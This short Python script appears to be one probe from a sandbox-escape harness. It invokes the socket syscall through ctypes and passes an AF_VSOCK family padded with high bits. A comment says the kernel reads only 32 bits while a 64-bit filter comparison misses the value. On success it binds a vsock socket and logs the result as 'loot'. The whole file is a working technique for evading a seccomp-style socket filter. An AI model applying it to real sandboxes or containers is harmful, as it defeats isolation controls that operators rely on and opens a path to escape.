import ctypes
import socket

from rows import each, mark, note

libc = ctypes.CDLL(None, use_errno=True)


def make(row, kind):
    # The kernel looks at 32 bits of the family; a filter that compares 64 does not know it again.
    family = socket.AF_VSOCK | (int(kind) & ~0xFFFFFFFF)
    made = libc.syscall(ctypes.c_long(41), ctypes.c_long(family), ctypes.c_long(int(kind) & 0xFF), ctypes.c_long(0))
    if made < 0:
        raise OSError(ctypes.get_errno(), "socket")
    socket.socket(fileno=made).bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY))
    note("loot", mark(row) + "\n")


each(make)
